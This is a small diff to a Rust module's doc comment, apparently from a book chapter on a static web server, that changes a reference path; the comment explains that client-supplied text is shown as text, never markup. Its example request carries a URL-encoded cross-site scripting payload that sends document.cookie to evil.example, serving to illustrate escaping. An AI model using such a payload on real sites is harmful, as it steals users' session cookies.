@@ -1,6 +1,6 @@
 //! What a client sent is text in a page, never markup.
 //!
-//! Chapter 3 · RFC 9110 §17.4 · book/src/ch03-static-server.md
+//! Chapter 3 · RFC 9110 §17.4 · book/src/ch03-static-server/errors.md
 //!
 //! ```text
 //! GET /%3Cscript%3Efetch('//evil.example/'+document.cookie)%3C/script%3E
